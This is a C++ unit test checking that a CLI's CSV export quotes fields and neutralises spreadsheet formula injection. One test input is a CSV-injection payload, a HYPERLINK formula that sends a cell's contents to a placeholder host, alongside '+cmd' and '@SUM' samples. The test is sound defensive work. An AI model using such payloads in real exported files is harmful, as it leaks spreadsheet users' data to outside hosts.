#include "cli/table.h"

#include <gtest/gtest.h>

namespace rota::cli {
namespace {

// `rota report -o csv` goes to spreadsheets: a GPU model an agent declared
// as =HYPERLINK(...) must stay text, and a CR must not split a row.
TEST(CsvField, QuotesWhatCsvNeedsAndKeepsFormulasText) {
  EXPECT_EQ(CsvField("alice"), "alice");
  EXPECT_EQ(CsvField("12.5"), "12.5");
  EXPECT_EQ(CsvField("-3"), "-3");
  EXPECT_EQ(CsvField("-"), "-");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("a\rb"), "\"a\rb\"");
  EXPECT_EQ(CsvField("=HYPERLINK(\"http://x/?\"&A2,\"H100\")"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"H100\"\")\"");
  EXPECT_EQ(CsvField("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(CsvField("+cmd"), "'+cmd");
  EXPECT_EQ(CsvField("-cmd"), "'-cmd");
}

}  // namespace
}  // namespace rota::cli
